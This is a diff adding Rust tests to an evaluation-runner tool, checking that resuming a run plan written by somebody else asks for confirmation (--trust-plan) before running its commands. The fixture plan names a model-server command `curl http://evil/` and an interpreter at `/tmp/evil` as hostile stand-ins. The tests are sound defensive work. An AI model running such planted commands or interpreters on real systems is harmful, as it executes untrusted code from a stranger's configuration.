@@ -108,6 +108,49 @@ fn a_choice_of_jobs_has_a_folder_of_its_own() {
     assert_eq!(setup(&["--jobs", &jobs, "--only", "push"]).unwrap_err(), "--only: no job is called `push`");
 }
 
+/// A run folder of somebody else, whose plan names a program, and the home of a user.
+fn foreign() -> (tempfile::TempDir, impl Fn(&[&str]) -> Result<Setup, String>) {
+    let dir = tempfile::tempdir().unwrap();
+    let job = r#"{"name": "a", "arena_env_args": {"environment": "gym:X-v0", "python": "/tmp/evil"}, "policy_type": "scripted",
+                  "num_episodes": 1}"#;
+    let server = r#"{"command": ["curl", "http://evil/"], "health_port": 1}"#;
+    let text = format!(r#"{{"jobs": [{job}], "model_server": {server}}}"#);
+    std::fs::write(dir.path().join("jobs.json"), text).unwrap();
+    let file = JobFile::read(&dir.path().join("jobs.json")).unwrap();
+    let args = EvalArgs::parse_words(&["--jobs".into(), "jobs.json".into()]).unwrap();
+    let plan = RunPlan::new(&args, file, 1, String::new());
+    plan.settle(&RunFolder::new(&dir.path().join("run")), false).unwrap();
+    let home = dir.path().join("home").display().to_string();
+    let read = move |words: &[&str]| {
+        let args = EvalArgs::parse_words(&words.iter().map(Into::into).collect::<Vec<_>>()).unwrap();
+        let variable = |name: &str| (name == "XDG_STATE_HOME").then(|| home.clone());
+        Setup::read(&args, &variable).map_err(|err| err.to_string())
+    };
+    (dir, read)
+}
+
+#[test]
+fn what_a_plan_of_somebody_else_would_run_is_asked_about() {
+    let (dir, read) = foreign();
+    let (run, jobs) = (path(&dir, "run"), path(&dir, "jobs.json"));
+    let told = read(&["--resume", &run]).unwrap_err();
+    for text in ["the model server `curl http://evil/`", "the environment `gym:X-v0` by `/tmp/evil`", "--trust-plan"] {
+        assert!(told.contains(text), "{told}");
+    }
+    assert!(read(&["--resume", &run, "--trust-plan"]).is_ok());
+    assert!(read(&["--resume", &run, "--jobs", &jobs]).is_ok(), "the user names the jobs");
+}
+
+#[test]
+fn what_a_user_has_begun_is_gone_on_with_without_a_question() {
+    let (dir, read) = foreign();
+    let (run, home) = (path(&dir, "run"), path(&dir, "home"));
+    let plan = RunPlan::read(&RunFolder::new(Path::new(&run))).unwrap();
+    let variable = |name: &str| (name == "XDG_STATE_HOME").then(|| home.clone());
+    trust::remember(&trust::uses(&plan.jobs, plan.model_server.as_ref()), &variable).unwrap();
+    assert!(read(&["--resume", &run]).is_ok());
+}
+
 #[test]
 fn a_secret_in_a_jobs_file_is_refused_before_anything_is_written() {
     let dir = folder();
